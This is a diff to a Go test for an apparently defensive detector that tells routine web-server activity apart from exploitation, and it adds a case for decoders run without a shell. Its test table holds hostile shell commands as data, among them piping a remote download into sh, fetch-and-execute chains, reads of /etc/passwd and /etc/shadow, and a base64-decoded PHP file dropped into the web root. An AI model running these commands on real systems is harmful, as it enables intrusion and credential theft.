@@ -51,32 +51,39 @@ func TestStagingOnly(t *testing.T) {
 	for _, c := range []struct {
 		cmd   string
 		want  bool
-		shows Shows // when want: what the act shows alone
+		shows Shows    // when want: what the act shows alone
+		argv  []string // the server's exec of a program itself, no shell (cmd unused)
 	}{
-		{"cd /tmp && curl -fsS -o p.tgz http://192.0.2.7/p.tgz && tar xzf p.tgz -C /var/www/html/plugins", true, ""},
-		{"tar -xzf /tmp/ext.tar.gz -C /var/www/html/ext", true, ""},
-		{"wget -q http://198.51.100.7/x -O /tmp/x", true, ""},
-		{"wget -q http://198.51.100.7/x -O /tmp/x && chmod +x /tmp/x", false, ""},
-		{"cd /dev/shm && wget -q http://198.51.100.7/x && chmod 755 x", false, ""},
+		{"cd /tmp && curl -fsS -o p.tgz http://192.0.2.7/p.tgz && tar xzf p.tgz -C /var/www/html/plugins", true, "", nil},
+		{"tar -xzf /tmp/ext.tar.gz -C /var/www/html/ext", true, "", nil},
+		{"wget -q http://198.51.100.7/x -O /tmp/x", true, "", nil},
+		{"wget -q http://198.51.100.7/x -O /tmp/x && chmod +x /tmp/x", false, "", nil},
+		{"cd /dev/shm && wget -q http://198.51.100.7/x && chmod 755 x", false, "", nil},
 		// an install from the admin page: fetched, unpacked into the web
 		// root, its modes set, the archive removed — staging only
-		{"curl -fsS -o /tmp/p.zip http://127.0.0.1:8000/p.zip && unzip -o -q /tmp/p.zip -d /var/www/html/plugins && chmod -R 755 /var/www/html/plugins/p && rm -f /tmp/p.zip", true, ""},
-		{"wget -q http://198.51.100.7/x -O /tmp/x; /tmp/x", false, ""},
-		{"curl -s http://198.51.100.7/x | sh", false, ""},
-		{"cd /tmp && tar xzf k.tgz && cat /etc/passwd", false, ""},
+		{"curl -fsS -o /tmp/p.zip http://127.0.0.1:8000/p.zip && unzip -o -q /tmp/p.zip -d /var/www/html/plugins && chmod -R 755 /var/www/html/plugins/p && rm -f /tmp/p.zip", true, "", nil},
+		{"wget -q http://198.51.100.7/x -O /tmp/x; /tmp/x", false, "", nil},
+		{"curl -s http://198.51.100.7/x | sh", false, "", nil},
+		{"cd /tmp && tar xzf k.tgz && cat /etc/passwd", false, "", nil},
 		// a temp path alone shows nothing by itself: tempnam() gives every
 		// application one (benign-news: convert, gs on temp files)
-		{"ls /tmp/", true, ""},
-		{"convert '/tmp/nrimgwGqaJO' -thumbnail 320x320 '/var/www/news/media/thumbs/a.jpg' 2>&1", true, ""},
+		{"ls /tmp/", true, "", nil},
+		{"convert '/tmp/nrimgwGqaJO' -thumbnail 320x320 '/var/www/news/media/thumbs/a.jpg' 2>&1", true, "", nil},
 		// who and where it runs, alone or with a temp path: discovery, as
 		// a diagnostics page asks (benign-desk); with a search for a way
 		// to root, or a secret read, it shows intent
-		{"ls /tmp/; id", true, ShowsStaging},
-		{"id 2>&1", true, ShowsDiscovery},
-		{"uname -a; hostname", true, ShowsDiscovery},
-		{"id; sudo -n -l", false, ""},
-		{"id; cat /etc/shadow", false, ""},
-		{"curl -s http://198.51.100.7/x -o /tmp/x; id", true, ShowsStaging},
+		{"ls /tmp/; id", true, ShowsStaging, nil},
+		{"id 2>&1", true, ShowsDiscovery, nil},
+		{"uname -a; hostname", true, ShowsDiscovery, nil},
+		{"id; sudo -n -l", false, "", nil},
+		{"id; cat /etc/shadow", false, "", nil},
+		{"curl -s http://198.51.100.7/x -o /tmp/x; id", true, ShowsStaging, nil},
+		// decoding in a shell's command hides what the shell runs; a
+		// decoder started with no shell hands its output back to the
+		// program (a carrier's label decoded by proc_open,
+		// benign-shop-courier)
+		{"echo aWQK | base64 -d > /var/www/html/x.php", false, "", nil},
+		{"", true, ShowsStaging, []string{"/usr/bin/base64", "-d"}},
 	} {
 		s := newSynth()
 		e, err := New(Options{})
@@ -84,7 +91,15 @@ func TestStagingOnly(t *testing.T) {
 			t.Fatal(err)
 		}
 		var got *Finding
-		for _, f := range e.Observe(s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", c.cmd), s.tree) {
+		var ev *parser.Event
+		if c.argv == nil {
+			ev = s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", c.cmd)
+		} else {
+			e.Observe(s.exec(200, 1, 33, "www-data", "/var/www", "/usr/sbin/php-fpm8.2", "php-fpm: pool www"), s.tree)
+			ev = s.exec(201, 200, 33, "www-data", "/var/www", c.argv[0], c.argv...)
+			c.cmd = strings.Join(c.argv, " ")
+		}
+		for _, f := range e.Observe(ev, s.tree) {
 			if f.RuleID == "web-server-exploitation" {
 				got = f
 			}
